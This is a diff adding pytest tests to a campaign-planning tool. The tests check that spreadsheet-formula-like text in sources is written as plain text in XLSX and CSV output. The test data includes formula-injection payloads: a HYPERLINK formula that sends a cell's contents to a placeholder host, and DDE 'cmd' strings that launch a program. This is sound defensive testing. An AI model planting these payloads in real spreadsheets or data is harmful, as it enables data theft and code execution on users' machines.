@@ -7,8 +7,11 @@ and the file system unchanged. The hostile scenarios are generated here from the
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
+import re
 import shutil
 from html.parser import HTMLParser
 from pathlib import Path
@@ -18,6 +21,8 @@ import yaml
 from click.testing import CliRunner, Result
 
 from campaign.cli import cli
+from campaign.files import neutralise, whatif_csv
+from campaign.whatif import WhatIfResult
 from scenarios.library import library_path
 
 #: Closes a double- or single-quoted attribute, opens a script, an element with a handler and a custom element.
@@ -166,3 +171,88 @@ def test_dollar_signs_and_tex_in_a_label_are_drawn_as_written(tmp_path, conversi
     markup.feed(page)
     # The band chart's title and the frontier's axis label hold the name as written (SVG text, fonttype none).
     assert f"{conversion}s to date" in "".join(markup.text)
+
+
+# -- Item: no formula in the workbook or the CSV files that was not ours ------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "#N/A",
+    "bell \x07 and escape \x1b in a source",
+]
+
+
+def test_sources_that_look_like_formulas_are_text_cells_in_the_workbook(tmp_path):
+    openpyxl = pytest.importorskip("openpyxl")
+    data = cafe()
+    data.pop("variants")
+    keys = list(data["sources"])
+    data["sources"] = {key: FORMULAS[i % len(FORMULAS)] for i, key in enumerate(keys)}
+    data["channels"]["facebook"]["sources"] = dict.fromkeys(data["channels"]["facebook"]["sources"], FORMULAS[0])
+    book = tmp_path / "pnl.xlsx"
+    result = invoke("pnl", str(write_scenario(tmp_path, data)), "--xlsx", str(book))
+    assert result.exit_code == 0, result.output
+    sheets = openpyxl.load_workbook(book)
+    written = {}
+    for row in sheets["Assumptions"].iter_rows(min_row=2):
+        key, source = row[0], row[2]
+        assert key.data_type == "s"
+        if source.value is not None:
+            assert source.data_type == "s", (key.value, source.value)
+            written[key.value] = source.value
+    # Shown as written; control characters (which a workbook cannot hold) as their escapes.
+    assert written["business.value_per_conversion"] == data["sources"]["business.value_per_conversion"]
+    assert written["channels.facebook.cpm"] == FORMULAS[0]
+    assert "bell \\x07 and escape \\x1b in a source" in written.values()
+    # Our own subtotals and KPIs are still live formulas; every other text cell is text.
+    kinds = {
+        (cell.data_type, isinstance(cell.value, str) and cell.value.startswith("="))
+        for sheet in sheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    }
+    assert ("f", True) in kinds
+    formulas = [c.value for s in sheets for r in s.iter_rows() for c in r if c.data_type == "f"]
+    # Ours are sums and ratios of cell references: no quotes, commas, pipes or text.
+    assert all(re.fullmatch(r"=[A-Za-z0-9:+\-*/()!]+", f) for f in formulas), formulas
+
+
+def test_every_csv_field_that_a_spreadsheet_would_run_is_neutralised():
+    for text in FORMULAS[:6]:
+        assert neutralise(text) == "'" + text
+    assert neutralise("#N/A") == "#N/A"
+    assert neutralise("lean") == "lean"
+    # Numbers are numbers: a negative profit is not text and keeps its sign.
+    assert neutralise(-1234.5) == -1234.5
+    assert neutralise(0) == 0
+    rows = [
+        {"name": name, "status": "infeasible", "message": "x"}
+        for name in ("base", *FORMULAS[:6], "budget.total=10000")
+    ]
+    import csv
+
+
+    read = list(csv.DictReader(io.StringIO(whatif_csv(WhatIfResult("s", "EUR", rows, 0)))))
+    assert [r["name"] for r in read] == ["base", *("'" + t for t in FORMULAS[:6]), "budget.total=10000"]
+
+
+def test_negative_numbers_in_a_csv_stay_numbers(tmp_path):
+    out = tmp_path / "out"
+    data = cafe()
+    data.pop("variants")
+    data["business"]["monthly_costs"]["team"] = 20000
+    # No budget pays for a team of 20,000 a month: the profit column is negative.
+    path = write_scenario(tmp_path, data)
+    result = invoke("frontier", str(path), "--from", "18000", "--to", "20000", "--points", "2", "-o", str(out))
+    assert result.exit_code == 0, result.output
+    with (out / "frontier.csv").open(encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    profits = [float(r["profit"]) for r in rows if r["status"] == "optimal"]
+    assert min(profits) < 0
+    assert "'" not in (out / "frontier.csv").read_text(encoding="utf-8")
